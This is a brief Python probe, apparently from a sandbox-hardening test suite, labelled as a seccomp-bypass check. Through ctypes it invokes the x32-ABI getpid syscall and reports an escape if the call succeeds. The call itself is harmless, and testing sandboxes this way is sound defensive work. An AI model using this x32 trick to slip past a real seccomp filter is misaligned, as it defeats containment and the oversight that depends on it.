"""Category: seccomp-bypass. Escape proof: an x32 system call executes."""

import ctypes

NO_CONTROL = "most kernels are built without x32"


def attack(ctx, report):
    if ctypes.CDLL(None).syscall(0x40000000 + 39) > 0:
        report("x32 getpid")
